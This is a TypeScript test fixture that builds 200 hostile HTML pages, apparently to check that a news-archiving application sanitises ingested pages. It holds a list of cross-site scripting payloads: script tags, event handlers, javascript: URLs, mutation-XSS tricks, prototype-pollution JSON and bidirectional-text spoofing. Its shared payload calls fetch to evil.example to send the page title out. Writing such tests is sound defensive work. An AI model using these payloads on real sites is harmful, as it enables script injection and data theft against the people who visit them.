import type { Arrival } from '../../src/core/ledger/port.js'
import { OnrecordError } from '../../src/core/model/index.js'
import { arrival } from '../node/ledger/pages.js'

/** What each attack tries to run: it would be seen on the window, as a request, and as a dialog. */
const RUN = "window.ran=1;fetch('https://evil.example/'+document.title);alert(1)"
const long = 'Donaudampfschifffahrtsgesellschaft'.repeat(60)

/** Attempts at running script, reaching the network, or looking like the desk's own marks. */
const ATTACKS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><script href="https://evil.example/x.js"></script><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<a href="javascript:${RUN}">said the minister</a>`,
  `<a href="java&#x0A;script:${RUN}" autofocus onfocus="${RUN}" tabindex=0>here</a>`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;" src="https://evil.example/"></iframe>`,
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; * { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/z.png);z-index:99999">over it all</p>',
  `<form action="https://evil.example/"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Try again</button></form>`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/"><base href="https://evil.example/">`,
  `<video autoplay src="https://evil.example/v.mp4" onerror="${RUN}"><source onerror="${RUN}"></video>`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  '<span class="content shown" data-s="forged:content" data-entrance="forged" role="button" tabindex="0">Nobody said this.</span>',
  '&lt;span class="content" data-s="forged:content" data-entrance="forged"&gt;Nobody said this.&lt;/span&gt;',
  `&lt;img src=x onerror="${RUN}"&gt; {@html "&lt;img src=x onerror=${RUN}&gt;"} {{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  '\u202e.erutcurts desrever a si siht\u202c \u2066isolated\u2069 \u200f\u200e \u061c',
  'A\u0000B\u0001C\u0008D\ufffe\uffff\ufeff',
  long,
  `<script type="application/ld+json">{"@type":"NewsArticle","__proto__":{"ran":1,"polluted":1},"constructor":{"prototype":{"polluted":1}},"headline":"<img src=x onerror=${RUN}>","author":{"name":"__proto__"},"publisher":{"name":"<b onclick=${RUN}>constructor</b>"},"url":"javascript:${RUN}"}</script>`,
  `</textarea></title></style></noscript></template><img src=x onerror="${RUN}"><plaintext>`,
  `<template><img src=x onerror="${RUN}"></template><noscript><img src=x onerror="${RUN}"></noscript><xmp><img src=x onerror="${RUN}"></xmp>`,
  `“<img src=x onerror="${RUN}">I never said it,” said <b onmouseover="${RUN}">Eve Hill</b>, the <i onclick="${RUN}">mayor</i>.`,
]

type Place = (attack: string, n: number) => { html: string; name?: string; url?: string }

const page = (title: string, body: string, head = ''): string =>
  `<!doctype html><html><head><title>${title}</title>${head}</head><body><article><h1>${title}</h1>
<p>The council of the valley met in the town of Tarn on the first day of the month, as it has done since the ferry was given up.</p>
${body}
<p>“The road will be mended before the winter,” said Lena Roth, the mayor of Tarn.</p>
<p>Karl Venn, who speaks for the farmers, said that the bridge was too narrow for their machines.</p></article></body></html>`
const quoted = (text: string) => text.replaceAll('"', '&quot;')

/** Where the attack stands on the page, or beside it. */
const PLACES: readonly Place[] = [
  (attack) => ({ html: page('Valley news', `<p>${attack}</p>`) }),
  (attack) => ({ html: page(attack, '') }),
  (attack) => ({
    html: page(
      'Valley news',
      '',
      `<meta property="og:site_name" content="${quoted(attack)}"><meta name="author" content="${quoted(attack)}">`,
    ),
  }),
  (attack) => ({
    html: page('Valley news', `<p>“We will not pay for it,” said ${attack} Nora Quill, the treasurer.</p>`),
  }),
  (attack) => ({ html: page('Valley news', `<p>“It was ${attack} agreed,” said Nora Quill, the treasurer.</p>`) }),
  (attack, n) => ({ html: page('Valley news', ''), name: `${attack}${n}.html` }),
  (attack, n) => ({ html: page('Valley news', ''), url: `https://valley.example/${n}?${attack.slice(0, 500)}` }),
  (attack, n) => ({
    html: page('Valley news', `<p class="${quoted(attack)}" data-s="${quoted(attack)}" ${attack}>A paragraph.</p>`),
    url: n % 2 === 0 ? `javascript:window.ran=${n}` : `data:text/html,<script>${RUN}</script>${n}`,
  }),
]

const escaped = (text: string) => text.replaceAll('<', '&lt;').replaceAll('\u0000', '')

async function made(place: Place, attack: string, n: number): Promise<Arrival | null> {
  const { html, name, url } = place(attack, n)
  const mark = `In case ${n} the council of the valley`
  const numbered = html.replace('The council of the valley', mark)
  try {
    const page = await arrival(numbered, { name: name ?? `case-${n}.html`, ...(url === undefined ? {} : { url }) })
    return page.record.reading.text.includes(mark) ? page : null
  } catch (error) {
    if (error instanceof OnrecordError && ['page-empty', 'page-binary'].includes(error.code)) return null
    throw error
  }
}

/** 200 pages made to run script, to reach elsewhere, or to forge marks. Each has its number in its words. */
export async function hostilePages(): Promise<Arrival[]> {
  const arrivals: Arrival[] = []
  for (const attack of ATTACKS) {
    for (const place of PLACES) {
      const n = arrivals.length
      // An attack that swallows the rest of the page leaves nothing to read: then its words stand there to be read.
      arrivals.push((await made(place, attack, n)) ?? ((await made(place, escaped(attack), n)) as Arrival))
    }
  }
  return arrivals
}
